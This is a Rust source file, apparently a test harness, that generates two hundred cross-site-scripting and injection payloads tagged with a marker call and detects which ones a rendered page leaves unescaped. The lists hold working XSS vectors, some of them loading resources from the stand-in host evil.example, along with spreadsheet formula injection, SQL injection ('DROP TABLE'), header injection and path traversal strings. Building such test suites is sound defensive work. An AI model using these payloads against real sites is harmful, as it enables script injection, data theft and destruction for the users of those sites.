//! What somebody would write into a field to have it run in another's browser. Each calls `__x` with its number, and is short enough
//! for a name.

/// How pieces of script are brought into a page; `@` stands for the call.
const SCRIPTS: [&str; 100] = [
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "<script >@</script >",
    "<script/x>@</script>",
    "<script\t>@</script>",
    "<script src=//evil.example/x.js?@></script>",
    "<script src=data:text/javascript,@></script>",
    "<script type=module>@</script>",
    "<scr<script>ipt>@</script>",
    "<<script>@//<</script>",
    "<script>@<!--",
    "</script><script>@</script>",
    "<noscript><p title='</noscript><script>@</script>'>",
    "<img src=x onerror=@>",
    "<img/src=x/onerror=@>",
    "<IMG SRC=x ONERROR=@>",
    "<img src=x onerror='@'>",
    "<img src=x onerror=\"@\">",
    "<img src=x onerror=`@`>",
    "<img src onerror=@>",
    "<img src=//evil.example/a.png?@>",
    "<img srcset=//evil.example/b.png?@>",
    "<image src=x onerror=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<textarea autofocus onfocus=@>",
    "<button autofocus onfocus=@>x",
    "<a href=javascript:@>x</a>",
    "<a href='java\tscript:@'>x</a>",
    "<a href=JaVaScRiPt:@>x</a>",
    "<a href=&#106;avascript:@>x</a>",
    "<a onmouseover=@>x</a>",
    "<b onclick=@>x</b>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<iframe src=javascript:@>",
    "<iframe srcdoc='<script>@</script>'>",
    "<iframe onload=@>",
    "<frameset onload=@>",
    "<object data=javascript:@>",
    "<object data=data:text/html,<script>@</script>>",
    "<embed src=javascript:@>",
    "<form action=javascript:@><button>x",
    "<button formaction=javascript:@>x",
    "<isindex action=javascript:@>",
    "<video onerror=@><source>",
    "<video src=x onerror=@>",
    "<audio src=x onerror=@>",
    "<video poster=//evil.example/c.png?@>",
    "<details open ontoggle=@>",
    "<marquee onstart=@>x",
    "<meter onmouseover=@>x",
    "<keygen autofocus onfocus=@>",
    "<dialog open onclose=@>x",
    "<base href=//evil.example/?@>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?@'>",
    "<link rel=stylesheet href=//evil.example/?@>",
    "<link rel=prefetch href=//evil.example/?@>",
    "<link rel=import href=data:text/html,@>",
    "<style>@import'//evil.example/?@'</style>",
    "<style>*{background:url(//evil.example/?@)}</style>",
    "<style onload=@></style>",
    "<p style=background:url(//evil.example/?@)>x",
    "<p style=animation-name:x onanimationstart=@>",
    "<x onfocus=@ tabindex=1 autofocus>",
    "<x contenteditable onblur=@>x",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><script href=data:,@ />",
    "<svg><animate onbegin=@ attributeName=x>",
    "<svg><set onbegin=@ attributename=x>",
    "<svg><a xlink:href=javascript:@><text>x",
    "<svg><use href='data:image/svg+xml,@'/>",
    "<svg><image href=//evil.example/?@>",
    "<svg><foreignObject><body onload=@>",
    "<svg><style><img src=x onerror=@></style>",
    "<svg><title><img src=x onerror=@></title>",
    "<svg><desc><img src=x onerror=@></desc>",
    "<svg><![CDATA[><img src=x onerror=@>]]>",
    "<math><a href=javascript:@>x",
    "<math><mtext><img src=x onerror=@>",
    "<math href=javascript:@>x",
    "<template><script>@</script></template>",
    "<template shadowrootmode=open><img src=x onerror=@>",
    "<xmp><p title='</xmp><img src=x onerror=@>'>",
    "<plaintext><img src=x onerror=@>",
    "<table background=javascript:@>",
    "<td background=//evil.example/?@>",
    "<bgsound src=javascript:@>",
    "<applet code=javascript:@>",
    "<portal src=javascript:@>",
    "<object><param name=src value=javascript:@>",
    "<map><area href=javascript:@>",
    "<q oncut=@>x",
    "<p onpointerrawupdate=@>x",
    "<p oncontentvisibilityautostatechange=@>",
    "<!--><img src=x onerror=@>-->",
    "<?xml version='1'?><script>@</script>",
];

/// How a field is left whose text stands within something else.
const WAYS_OUT: [&str; 30] = [
    "\" onmouseover=\"@",
    "' onmouseover='@",
    "\" autofocus onfocus=\"@",
    "' autofocus onfocus='@",
    "\"><script>@</script>",
    "'><script>@</script>",
    "\"><img src=x onerror=@>",
    "'><img src=x onerror=@>",
    "\"/><svg onload=@>",
    "></a><img src=x onerror=@>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</style><script>@</script>",
    "</option></select><img src=x onerror=@>",
    "</text></svg><img src=x onerror=@>",
    "</desc></svg><script>@</script>",
    "</button><img src=x onerror=@>",
    "</td></tr></table><img src=x onerror=@>",
    "--><img src=x onerror=@>",
    "]]><img src=x onerror=@>",
    "`><img src=x onerror=@>",
    "\\\"><img src=x onerror=@>",
    "';@;'",
    "\";@;\"",
    "`;@;`",
    "${@}",
    "\n@\n//",
    "*/@/*",
    "\");@;//",
    "\" style=\"background:url(//evil.example/?@)",
];

/// Other languages that a text might be taken for, and other ways of writing the same letters.
const OTHERS: [&str; 70] = [
    "{ @ }",
    "{{ @ }}",
    "{ $name } @",
    "{ -brand } @",
    "{ rosters-title } @",
    "{ \"<script>\" } @",
    "{ NUMBER(1) } @",
    "{ $x -> *[a] <b>@</b> }",
    "{% @ %}",
    "{{constructor.constructor('@')()}}",
    "#{@}",
    "<%= @ %>",
    "[[@]]",
    "${{@}}",
    "{{=@}}",
    "{link} @ <script>",
    "javascript:@",
    "javascript://%0a@",
    "JAVASCRIPT:@//",
    " javascript:@",
    "\u{1}javascript:@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD4=@",
    "vbscript:@",
    "//evil.example/?@",
    "/\\evil.example/?@",
    "https://evil.example/?@",
    "%3Cscript%3E@%3C/script%3E",
    "%253Cscript%253E@",
    "&lt;script&gt;@&lt;/script&gt;",
    "&#60;script&#62;@&#60;/script&#62;",
    "&#x3c;img src=x onerror=@&#x3e;",
    "&lt;img src=x onerror=@&gt;",
    "\\u003cscript\\u003e@",
    "\\x3cscript\\x3e@",
    "\u{ff1c}script\u{ff1e}@\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}@",
    "+ADw-script+AD4-@+ADw-/script+AD4-",
    "\u{202e}<script>@</script>",
    "\u{202e}>tpircs<@",
    "\u{2066}<img src=x onerror=@>\u{2069}",
    "\u{feff}<script>@</script>",
    "\u{200b}<script>@</script>",
    "<\u{200b}script>@</script>",
    "<scr\u{ad}ipt>@</script>",
    "<\u{212a}script>@</script>",
    "<\u{17f}cript>@</script>",
    "\u{2028}@\u{2029}",
    "\u{85}<script>@</script>",
    "e\u{301}\u{323}<script>@</script>",
    "\u{1f469}\u{200d}\u{1f3eb}<script>@</script>",
    "=HYPERLINK(\"//evil.example/?@\")",
    "=cmd|'/c @'!A0",
    "+@",
    "-@",
    "@",
    "\t=@",
    "Blad1'!A1<script>@</script>",
    "[Book1]Sheet<script>@</script>",
    "../../<script>@</script>",
    "..\\..\\<img src=x onerror=@>",
    "a.csv\"; filename=\"b.html\" @",
    "a.html<script>@</script>.csv",
    "a\r\nContent-Type: text/html\r\n\r\n@",
    "'; DROP TABLE persons; -- @",
    "' OR '1'='1 @",
    "%00<script>@</script>",
    "<script>@",
    "<img src=x onerror=@//",
    "<a href=\"javascript:@",
];

/// All two hundred.
pub fn payloads() -> Vec<String> {
    let shapes = SCRIPTS.iter().chain(&WAYS_OUT).chain(&OTHERS);
    shapes
        .enumerate()
        .map(|(number, shape)| {
            // A style sheet says `@import` with a sign of its own.
            let shape = shape.replace("@import", "\u{0}");
            shape
                .replace('@', &call(number))
                .replace('\u{0}', "@import")
        })
        .collect()
}

fn call(number: usize) -> String {
    format!("__x({number})")
}

/// The number of every call that stands in a text, with where.
pub fn calls(text: &str) -> impl Iterator<Item = (usize, usize)> + '_ {
    text.match_indices("__x(").filter_map(|(at, _)| {
        let digits = text[at + 4..].split(')').next()?;
        Some((at, digits.parse().ok()?))
    })
}

/// The payloads that stand in a page as they were written, although they hold what a page must escape.
pub fn unescaped(html: &str, payloads: &[String]) -> Vec<usize> {
    calls(html)
        .filter(|(at, number)| {
            let Some(payload) = payloads.get(*number).filter(|one| one.contains(['<', '"'])) else {
                return false;
            };
            let from = at.checked_sub(payload.find("__x(").unwrap_or_default());
            from.and_then(|from| html.get(from..))
                .is_some_and(|rest| rest.starts_with(payload.as_str()))
        })
        .map(|(_, number)| number)
        .collect()
}
